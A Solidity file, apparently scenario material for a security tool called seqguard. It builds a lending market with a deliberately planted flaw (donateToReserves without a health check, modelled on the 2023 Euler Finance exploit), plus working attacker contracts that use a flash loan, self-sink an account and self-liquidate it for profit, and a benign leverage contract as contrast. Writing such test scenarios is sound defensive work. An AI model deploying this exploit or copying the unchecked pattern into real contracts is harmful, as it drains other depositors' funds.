// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import {IERC20, IFlashBorrower} from "./Interfaces.sol";
import {TokenVault} from "./TokenVault.sol";

/// @title DonationMarket: an Euler-style market for one token. Deposits are collateral
/// for debt in the same token (up to 95% of them: self-collateralised); `mint` takes on
/// deposit and debt together for leverage; unhealthy accounts are liquidated softly, at
/// a discount that grows with how unhealthy they are, up to 20%; and anyone may donate
/// deposits to the reserves.
/// @notice Written for seqguard's scenarios. BUG, as in Euler Finance (March 2023, about
/// $197M): `donateToReserves` moves deposits away without checking that the account
/// stays healthy, so an attacker can push its own leveraged account deep underwater on
/// purpose and liquidate it from a second account at the full discount, taking more
/// deposits than the debt it pays, out of the other depositors' cash.
contract DonationMarket {
    IERC20 public immutable asset;
    uint256 public constant COLLATERAL_FACTOR = 95; // percent
    uint256 public constant MAX_DISCOUNT = 0.2e18;

    mapping(address => uint256) public depositOf;
    mapping(address => uint256) public debtOf;
    uint256 public totalDeposits;
    uint256 public totalDebts;
    uint256 public reserves;

    event Deposit(address indexed who, uint256 amount);
    event Withdraw(address indexed who, uint256 amount);
    event Borrow(address indexed who, uint256 amount);
    event Repay(address indexed who, uint256 amount);
    event Donate(address indexed who, uint256 amount);
    event Liquidate(address indexed liquidator, address indexed violator, uint256 repaid, uint256 seized);

    constructor(IERC20 asset_) {
        asset = asset_;
    }

    /// Risk-adjusted collateral over debt, 1e18-scaled; the maximum when there is no debt.
    function health(address who) public view returns (uint256) {
        uint256 debt = debtOf[who];
        if (debt == 0) return type(uint256).max;
        return depositOf[who] * COLLATERAL_FACTOR / 100 * 1e18 / debt;
    }

    /// How far below face value a liquidator takes an unhealthy account's deposits.
    function discount(address who) public view returns (uint256) {
        uint256 h = health(who);
        if (h >= 1e18) return 0;
        return 1e18 - h < MAX_DISCOUNT ? 1e18 - h : MAX_DISCOUNT;
    }

    function deposit(uint256 amount) external {
        require(asset.transferFrom(msg.sender, address(this), amount));
        depositOf[msg.sender] += amount;
        totalDeposits += amount;
        emit Deposit(msg.sender, amount);
    }

    function withdraw(uint256 amount) external {
        depositOf[msg.sender] -= amount;
        totalDeposits -= amount;
        _requireHealthy(msg.sender);
        require(asset.transfer(msg.sender, amount));
        emit Withdraw(msg.sender, amount);
    }

    function borrow(uint256 amount) external {
        debtOf[msg.sender] += amount;
        totalDebts += amount;
        _requireHealthy(msg.sender);
        require(asset.transfer(msg.sender, amount));
        emit Borrow(msg.sender, amount);
    }

    /// Leverage: a deposit and a debt of `amount` each, no tokens moved (Euler's `mint`).
    function mint(uint256 amount) external {
        depositOf[msg.sender] += amount;
        totalDeposits += amount;
        debtOf[msg.sender] += amount;
        totalDebts += amount;
        _requireHealthy(msg.sender);
        emit Deposit(msg.sender, amount);
        emit Borrow(msg.sender, amount);
    }

    function repay(uint256 amount) external {
        require(asset.transferFrom(msg.sender, address(this), amount));
        debtOf[msg.sender] -= amount;
        totalDebts -= amount;
        emit Repay(msg.sender, amount);
    }

    /// The bug: no health check on the donor.
    function donateToReserves(uint256 amount) external {
        depositOf[msg.sender] -= amount;
        totalDeposits -= amount;
        reserves += amount;
        emit Donate(msg.sender, amount);
    }

    /// Repays `amount` of an unhealthy `violator`'s debt and takes its deposits worth
    /// `amount / (1 - discount)`.
    function liquidate(address violator, uint256 amount) external returns (uint256 seized) {
        require(violator != msg.sender, "DonationMarket: self-liquidation");
        uint256 off = discount(violator);
        require(off > 0, "DonationMarket: healthy");
        seized = amount * 1e18 / (1e18 - off);
        require(asset.transferFrom(msg.sender, address(this), amount));
        debtOf[violator] -= amount;
        totalDebts -= amount;
        depositOf[violator] -= seized;
        depositOf[msg.sender] += seized;
        _requireHealthy(msg.sender);
        emit Liquidate(msg.sender, violator, amount, seized);
    }

    function _requireHealthy(address who) internal view {
        require(health(who) >= 1e18, "DonationMarket: unhealthy");
    }
}

/// @title SelfLiquidator: the Euler Finance attack on a DonationMarket.
/// @notice Written for seqguard's scenarios: flash-borrow the token; a violator contract
/// deposits part of it, levers up with `mint`, donates enough deposits to the reserves to
/// sink its own health to the maximum discount; this contract liquidates it, withdraws
/// the discounted deposits, repays the loan and keeps the difference. Reverts without a
/// profit.
contract SelfLiquidator is IFlashBorrower {
    TokenVault public immutable lender;
    DonationMarket public immutable market;
    LeveragedViolator public immutable violator;
    address private immutable owner;

    constructor(TokenVault lender_, DonationMarket market_) {
        (lender, market, owner) = (lender_, market_, msg.sender);
        violator = new LeveragedViolator(market_);
    }

    function run(uint256 loan, uint256 stake, uint256 leverage) external {
        require(msg.sender == owner, "SelfLiquidator: owner only");
        IERC20 asset = market.asset();
        uint256 before = asset.balanceOf(address(this));
        lender.flashLoan(loan, this, abi.encode(stake, leverage));
        uint256 after_ = asset.balanceOf(address(this));
        require(after_ > before, "SelfLiquidator: no profit");
        require(asset.transfer(owner, after_));
    }

    function onFlashLoan(address, uint256 amount, uint256 fee, bytes calldata data) external {
        require(msg.sender == address(lender), "SelfLiquidator: lender only");
        (uint256 stake, uint256 leverage) = abi.decode(data, (uint256, uint256));
        IERC20 asset = market.asset();
        require(asset.transfer(address(violator), stake));
        violator.sink(stake, leverage);
        // take over as much of its debt as its deposits cover at the discount
        uint256 deposits = market.depositOf(address(violator));
        uint256 repayAmount = deposits * (1e18 - market.discount(address(violator))) / 1e18;
        asset.approve(address(market), repayAmount);
        uint256 seized = market.liquidate(address(violator), repayAmount);
        market.withdraw(seized);
        require(asset.transfer(address(lender), amount + fee));
    }
}

/// @title LeveragedViolator: the account SelfLiquidator sinks on purpose.
contract LeveragedViolator {
    DonationMarket private immutable market;
    address private immutable boss;

    constructor(DonationMarket market_) {
        (market, boss) = (market_, msg.sender);
    }

    /// Deposit `stake`, lever it up `leverage` times, then donate until health is 0.8.
    function sink(uint256 stake, uint256 leverage) external {
        require(msg.sender == boss, "LeveragedViolator: boss only");
        market.asset().approve(address(market), stake);
        market.deposit(stake);
        market.mint(stake * leverage);
        uint256 debt = market.debtOf(address(this));
        uint256 target = debt * 8 / 10 * 100 / market.COLLATERAL_FACTOR(); // deposits at health 0.8
        market.donateToReserves(market.depositOf(address(this)) - target);
    }
}

/// @title LeverageAccount: a user's smart account holding a DonationMarket position, with
/// one-click leverage through a flash loan (as DeFi Saver and Instadapp accounts do).
/// @notice The benign twin of SelfLiquidator, written for seqguard's scenarios: borrow the
/// token, deposit it with the account's own, borrow back the loan and its fee from the
/// market, repay. The account ends with a bigger, healthy position and no tokens.
contract LeverageAccount is IFlashBorrower {
    TokenVault public immutable lender;
    DonationMarket public immutable market;
    address public immutable owner;

    constructor(TokenVault lender_, DonationMarket market_) {
        (lender, market, owner) = (lender_, market_, msg.sender);
    }

    function leverUp(uint256 loan) external {
        require(msg.sender == owner, "LeverageAccount: owner only");
        lender.flashLoan(loan, this, "");
    }

    function onFlashLoan(address, uint256 amount, uint256 fee, bytes calldata) external {
        require(msg.sender == address(lender), "LeverageAccount: lender only");
        IERC20 asset = market.asset();
        uint256 all = asset.balanceOf(address(this)); // our own tokens and the loan
        asset.approve(address(market), all);
        market.deposit(all);
        market.borrow(amount + fee);
        require(asset.transfer(address(lender), amount + fee));
    }
}
